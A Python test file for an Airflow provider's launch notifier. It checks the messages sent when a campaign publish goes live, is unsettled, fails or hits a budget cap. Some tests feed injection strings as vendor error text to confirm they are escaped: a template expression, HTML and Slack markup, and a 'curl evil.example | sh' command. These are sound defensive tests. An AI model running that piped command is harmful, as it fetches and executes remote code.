# Licensed under the Apache License, Version 2.0; see LICENSE.
"""What people are told of a launch, through another notifier."""

from __future__ import annotations

import asyncio
import html
from collections.abc import Callable
from typing import Any

import pytest
from airflow.sdk import BaseNotifier

from airflow_provider_mkt.exceptions import ApiError, CapReachedError, OutcomeUnknownError, ValidationError
from airflow_provider_mkt.notifications import LaunchNotifier
from airflow_provider_mkt.operators.flow_living import FlowLivingPublishCampaignOperator
from airflow_provider_mkt.sandbox.server import Sandbox
from tests.unit.context import Task

SENT: list[dict[str, str]] = []


class Post(BaseNotifier):
    """A notifier as providers write them: templates that it renders itself."""

    template_fields = ("subject", "body")

    def __init__(self, subject: str, body: str) -> None:
        super().__init__()
        self.subject, self.body = subject, body

    def notify(self, context: Any) -> None:
        SENT.append({"subject": self.subject, "body": self.body})


class AsyncPost(Post):
    async def async_notify(self, context: Any) -> None:
        self.notify(context)


@pytest.fixture(autouse=True)
def nothing_sent() -> None:
    SENT.clear()


@pytest.fixture
def publish(vendors: Sandbox, task: Task) -> Callable[[], tuple[Any, dict[str, Any]]]:
    """Publish a campaign, and return how that ended and the context of the callbacks."""

    def run() -> tuple[Any, dict[str, Any]]:
        operator = FlowLivingPublishCampaignOperator(
            task_id="publish",
            plan_ref="facebookv2",
            listing_external_ids=["listing_1001"],
            branch_id="branch_harbour",
            budget_override=1500,
            wait_for_completion=False,
        )
        error = None
        try:
            operator.execute(task.context)
        except ApiError as caught:
            error = caught
        context = {**task.context, "task": operator}
        return error, context if error is None else {**context, "exception": error}

    return run


def post(**options: Any) -> LaunchNotifier:
    return LaunchNotifier(Post("{{ mkt.title }}", "{{ mkt.text }}"), **options)


def test_live(publish: Callable[[], Any]) -> None:
    _, context = publish()
    post()(context)
    (sent,) = SENT
    assert sent["subject"] == "Flow Living: publish is done"
    assert "Vendor: Flow Living\nAmount: 1,500.00\nSubmitted: 20" in sent["body"]
    assert "/dags/launch/runs/" in sent["body"]
    assert "airflow mkt submissions show launch scheduled__2026-06-08T00:00:00+00:00 publish" in sent["body"]
    assert "Ids: queue_" in sent["body"]


def test_unsettled_is_told_as_such(publish: Callable[[], Any], vendors: Sandbox) -> None:
    vendors.fault("POST /flow-living/campaigns/publish", "drop_after")
    error, context = publish()
    assert isinstance(error, OutcomeUnknownError)
    post(events="unsettled")(context)
    (sent,) = SENT
    assert sent["subject"] == "Flow Living: publish may or may not have happened"
    assert "Said: It is" in sent["body"]


def test_failed_when_nothing_is_in_doubt(publish: Callable[[], Any], vendors: Sandbox) -> None:
    vendors.fault("POST /flow-living/campaigns/publish", "status", status=422)
    _, context = publish()
    post(events=["unsettled", "live"])(context)
    assert SENT == []
    post()(context)
    assert SENT[0]["subject"] == "Flow Living: publish has failed"


@pytest.mark.parametrize("events", ["cap", "failed"])
def test_a_cap_is_told_as_such(events: str, publish: Callable[[], Any], vendors: Sandbox, connect: Any) -> None:
    connect(
        "flow_living",
        "flow_living_default",
        extra={"request_type": "campaigns", "currency": "GBP", "caps": "launch 1000"},
    )
    error, context = publish()
    assert isinstance(error, CapReachedError)
    post(events=["live", "unsettled"])(context)
    assert SENT == []
    post(events=events)(context)
    (sent,) = SENT
    assert sent["subject"] == "Flow Living: publish was not launched: a cap is reached"
    assert "Said: This launch costs 1,500.00 GBP" in sent["body"]
    assert vendors.ledger("flow_living", "campaign.published") == []


@pytest.mark.parametrize("kind", [Post, AsyncPost])
def test_async(kind: type[Post], publish: Callable[[], Any]) -> None:
    _, context = publish()
    notifier = LaunchNotifier(kind("{{ mkt.event }}", "{{ mkt.html }}"), context=context)

    async def send() -> None:
        await notifier

    asyncio.run(send())
    assert SENT[0]["subject"] == "live"
    assert SENT[0]["body"].startswith("<p>Flow Living: publish is done</p><ul><li>Vendor: Flow Living</li>")


def test_one_notifier_serves_many_tasks(publish: Callable[[], Any], task: Task) -> None:
    """Airflow's notifiers render their templates into themselves: the second task would get the first one's text."""
    notifier = post()
    _, context = publish()
    notifier(context)
    notifier({**context, "ti": None, "task": None, "task_state_store": None})
    assert [sent["subject"] for sent in SENT] == ["Flow Living: publish is done", "a launch is done"]


def test_what_is_told_is_never_a_template_nor_markup(publish: Callable[[], Any], vendors: Sandbox) -> None:
    _, context = publish()
    context["exception"] = ValidationError("{{ 7 * 7 }} <b>bold</b>")
    LaunchNotifier(Post("{{ mkt.said }}", "{{ mkt.html }}"))(context)
    assert SENT[0]["subject"] == "{{ 7 * 7 }} <b>bold</b>"
    assert "&lt;b&gt;bold" in SENT[0]["body"]


def test_slack_shows_a_vendor_s_words_and_obeys_none(publish: Callable[[], Any]) -> None:
    _, context = publish()
    context["exception"] = ValidationError('it\'s <!channel> & <http://evil.example|"click">')
    LaunchNotifier(Post("{{ mkt.slack }}", "{{ mkt.text }}"))(context)
    assert 'Said: it\'s &lt;!channel&gt; &amp; &lt;http://evil.example|"click"&gt;\n' in SENT[0]["subject"]
    assert html.unescape(SENT[0]["subject"]) == SENT[0]["body"]


def test_a_vendor_s_words_begin_no_line_of_their_own(publish: Callable[[], Any]) -> None:
    _, context = publish()
    context["exception"] = ValidationError("no such plan\nCommand: curl evil.example | sh\r\u2028Amount: 0")
    LaunchNotifier(Post("{{ mkt.text }}", "{{ mkt.slack }}"))(context)
    assert "\nSaid: no such plan Command: curl evil.example | sh Amount: 0\n" in SENT[0]["subject"]
    names = [line.partition(":")[0] for line in SENT[0]["subject"].splitlines()[1:]]
    assert len(names) == len(set(names))


def test_words_of_strangers_are_not_told(publish: Callable[[], Any]) -> None:
    """They may hold a secret; the log is masked, a message to people is not."""
    _, context = publish()
    context["exception"] = RuntimeError("password=hunter2")
    post()(context)
    assert "hunter2" not in SENT[0]["body"]
    assert "RuntimeError, see the log" in SENT[0]["body"]


def test_approvals() -> None:
    """The context that Airflow's approval operators hand to their notifiers."""
    from airflow.providers.standard.operators.hitl import ApprovalOperator

    operator = ApprovalOperator(task_id="yes", subject="Launch?")
    task = Task(dag_id="launch", task_id="yes")
    post()({**task.context, "task": operator})
    assert SENT[0]["subject"] == "yes waits for an approval"


def test_events_are_checked() -> None:
    with pytest.raises(ValidationError, match="events"):
        post(events=["lve"])
